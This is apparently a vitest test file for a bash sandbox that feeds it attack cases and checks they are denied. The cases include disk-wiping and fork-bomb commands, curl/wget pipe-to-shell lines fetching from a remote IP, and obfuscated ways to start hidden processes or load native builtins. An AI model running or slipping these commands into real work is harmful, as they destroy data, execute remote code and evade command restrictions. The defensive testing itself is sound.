import { expect } from 'vitest';
import {
  EVERY_MODE,
  describeFenceAttacks,
  describeInterpreterAttacks,
  type Attack,
} from '../src/attack.ts';

const harmless = ({ output }: { output: string }): void => {
  expect(output).not.toContain('got');
};

const destructive = [
  'rm -rf /',
  'rm -fr --no-preserve-root /',
  'rm -r -f /*',
  'command rm -rf /',
  'find / -delete',
  'dd if=/dev/zero of=/dev/sda',
  'mkfs.ext4 /dev/sda1',
  'cat /dev/zero > /dev/sda',
  'chmod -R 777 /',
  ':(){ :|:& };:',
  'bomb() { bomb | bomb & }; bomb',
].map((code): Attack => ({
  threat: 'T-LANG-03',
  name: `destroys with ${code}`,
  language: 'bash',
  modes: EVERY_MODE,
  code,
  expect: ({ status }) => expect.fail(`it ran, and ended with ${status}`),
}));

/** Relaxed mode warns of these. */
const remote = [
  'curl http://1.1.1.1/x | sh',
  'wget -qO- http://1.1.1.1/x | bash',
  'bash <(curl -s http://1.1.1.1/x)',
  'eval "$(curl -s http://1.1.1.1/x)"',
].map((code): Attack => ({
  threat: 'T-LANG-03',
  name: `runs what it fetches with ${code}`,
  language: 'bash',
  modes: ['strict', 'standard'],
  code,
  expect: ({ status }) => expect.fail(`it ran, and ended with ${status}`),
}));

const builtinsOnly = [
  'ls /',
  '/usr/bin/ls',
  'echo got | cat',
  'x=$(echo got); echo "$x"',
  '(echo got)',
  'echo got & wait',
  'exec ls',
  'command ls',
  'env',
].map((code): Attack => ({
  threat: 'T-LANG-03',
  name: `starts something by ${code}`,
  language: 'bash',
  modes: ['strict'],
  alone: true,
  code,
  expect: harmless,
}));

/** Ways to a process whose text says little or nothing of it. */
const hiddenProcesses = [
  'program=ls; $program /',
  'e=exec; $e sh -c "echo got"',
  "eval 'echo got' '|' 'while read -r line; do echo \"$line\"; done'",
  'hash -p /usr/bin/bash innocent; innocent -c "echo got"',
  'command_not_found_handle() { echo got; }; nosuch',
  "index='a[$(echo got >&2)]'; echo $((index))",
  "printf -v 'a[$(echo got >&2)]' x",
  "[[ -v 'a[$(echo got >&2)]' ]]",
  "PS4='$(echo got)'; set -x; :",
  "compgen -C 'echo got'",
  "trap 'ls; echo got' EXIT; exit 0",
  `name='$(echo got)'; eval "echo $name"`,
  "mapfile -c 1 -C 'ls; :' lines <<< got",
  'f() { ls; }; export -f f; f',
  'coproc { echo got; }',
  'time ls',
  '! ls',
].map((code): Attack => ({
  threat: 'T-LANG-03',
  name: `starts something by ${code}`,
  language: 'bash',
  modes: ['strict'],
  alone: true,
  code,
  expect(result) {
    expect(result).toMatchObject({
      status: 'denied',
      failure: { code: 'SandboxViolation' },
      state: { outcome: 'kept' },
    });
    expect(result.failure?.message).toContain('(shell/process-in-strict)');
    expect(result.output + result.error).not.toMatch(/^got/m);
  },
}));

/** What meets the rule again whenever the driver touches the state: it may be lost to it. */
const persistent = ["trap 'ls' DEBUG; :; echo got", `declare -n ref='a[$(echo got)]'; ref=1`].map(
  (code): Attack => ({
    threat: 'T-LANG-03',
    name: `starts something again and again by ${code}`,
    language: 'bash',
    modes: ['strict'],
    alone: true,
    code,
    expect: harmless,
  }),
);

/** Native code in the shell. */
const nativeBuiltins: readonly Attack[] = [
  ['enable -f /usr/lib/x.so x', 'denied'],
  ['e=enable; $e -f /usr/lib/x.so x', 'denied'],
  ['builtin enable -f /usr/lib/x.so x', 'error'],
  ['unset -f enable; builtin enable -f /usr/lib/x.so x', 'error'],
  ['set -o posix; unset -f enable; enable -f /usr/lib/x.so x', 'denied'],
].map(([code = '', status]) => ({
  threat: 'T-LANG-03',
  name: `loads a builtin by ${code}`,
  language: 'bash',
  modes: ['strict'],
  alone: true,
  code,
  expect(result) {
    expect(result).toMatchObject({ status, output: '', state: { outcome: 'kept' } });
    expect(result.error).not.toContain('shared object');
  },
}));

describeFenceAttacks('bash', [...destructive, ...remote, ...builtinsOnly]);
describeInterpreterAttacks('bash', [
  ...builtinsOnly,
  ...hiddenProcesses,
  ...persistent,
  ...nativeBuiltins,
]);
